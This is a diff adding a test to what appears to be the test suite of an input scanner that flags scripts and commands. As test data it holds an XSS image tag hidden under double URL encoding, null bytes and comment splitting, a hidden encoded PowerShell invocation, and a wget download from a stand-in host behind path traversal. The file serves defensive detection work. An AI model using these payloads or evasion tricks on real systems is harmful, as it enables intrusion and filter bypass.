@@ -217,6 +217,17 @@ test('inspectText comes to an end where a pattern has many ways to read a text',
   ok(kindsOf('powershell -nop  -w hidden -enc ZQBjAGgAbwA=').includes('command'));
 });
 
+test('inspectText reads a long value below two layers of encoding, with nulls and comments between', () => {
+  const long = 'lorem '.repeat(6_000);
+  const tag = '<img src=x onerror=alert(1)>';
+  for (const hidden of [
+    encodeURIComponent(tag),
+    encodeURIComponent(encodeURIComponent(tag)),
+    encodeURIComponent(`\0/**/${tag.replace('onerror', 'on\0er/**/ror')}`),
+  ])
+    ok(kindsOf(long + hidden).includes('script'), hidden);
+});
+
 test('inspectText finds a program at either end of a very long word', () => {
   const directories = 'a/../'.repeat(800);
   deepEqual(kindsOf(`x; /${directories}bin/wget http://evil.example/x -O /tmp/x`).includes('command'), true);
